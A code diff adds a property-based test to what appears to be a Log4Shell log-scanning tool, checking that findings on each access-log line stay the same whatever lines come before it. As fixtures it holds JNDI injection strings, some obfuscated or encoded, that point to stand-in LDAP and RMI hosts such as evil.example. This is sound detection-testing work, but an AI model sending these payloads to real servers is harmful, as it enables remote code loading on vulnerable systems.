@@ -162,3 +162,37 @@ test('what a record of a thousand attacks costs grows with their number, not wit
   expect(findings).toHaveLength(1_000)
   expect(asked).toBeLessThan(3_000)
 })
+
+const sent = fc.constantFrom(
+  attack,
+  '%24%7Bjndi:ldap://evil.example:1389/a%7D',
+  '${${lower:j}ndi:ldap://other.example/a}',
+  '${jndi:ldap://open.example/a',
+  `x ${attack} \${jndi:rmi://second.example/b`,
+  '${jndi:ldap://evil.example:1389/a&#125',
+  '&#36;{jndi:ldap://evil.example:1389/a&#125;',
+  '}',
+  '%7D',
+  ';',
+  '$',
+  'curl/7.79',
+)
+
+test('a text that comes again is told as it is written there, whatever stands around it', () => {
+  const request = fc.record({ path: sent, referer: sent, agent: sent, behind: fc.constantFrom('', ' ', '}', ' "}"') })
+  fc.assert(
+    fc.property(fc.array(request, { minLength: 2, maxLength: 7 }), (requests) => {
+      const lines = requests.map(
+        ({ path, referer, agent, behind }) =>
+          `203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET /${path} HTTP/1.1" 200 6 "${referer}" "${agent}"${behind}\n`,
+      )
+      const told = (log: string, line: number) =>
+        huntIn(log)
+          .findings.filter(({ at }) => at.line === line)
+          .map(({ field, lookup: { raw, meaning } }) => ({ field, raw, meaning }))
+      // What stands first in a log has not come before.
+      for (let i = 0; i < lines.length; i++)
+        expect(told(lines.join(''), i + 1)).toEqual(told(lines.slice(i).join(''), 1))
+    }),
+  )
+})
